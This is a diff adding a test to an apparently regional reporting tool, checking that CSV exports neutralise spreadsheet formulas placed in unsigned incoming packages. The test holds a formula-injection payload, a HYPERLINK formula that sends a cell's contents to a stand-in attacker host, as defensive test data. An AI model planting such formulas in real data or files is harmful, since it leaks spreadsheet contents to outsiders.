@@ -367,3 +367,22 @@ def test_two_prepares_at_once_never_give_a_month_the_same_revision(
     with LocalDB(paths) as local:
         rows = [tuple(r) for r in local.conn.execute("SELECT period, revision FROM outbox")]
     assert len(rows) == len(set(rows)), rows
+
+
+def test_a_formula_in_a_package_stays_text_in_the_csv_files(
+        tmp_path: Path, region_key: tuple[Path, str]) -> None:
+    # Packages are not signed: anyone with the region's public key can send one, and a
+    # municipality "=HYPERLINK(…)" became a live formula in Excel.
+    from hytedesk.admin.region_report import report
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1;"Kuhmo")'
+    p = package(str(uuid.uuid4()), "2026-11", {"4": 12})
+    p["referrals"][0]["municipality"] = formula
+    laptop = package(str(uuid.uuid4()), "2026-10", {"4": 6})  # a previous period: +6
+    db = collected(tmp_path, region_key, p, laptop)
+    out = tmp_path / "report"
+    report(db, "2026-11", "2026-11", out, lang="en")
+    for name in ("municipalities.csv", "municipalities.excel.csv"):
+        text = (out / name).read_text(encoding="utf-8-sig")
+        assert "'=HYPERLINK" in text and "\n=" not in text and ";=" not in text
+    assert "+6" in (out / "trend.csv").read_text(encoding="utf-8")
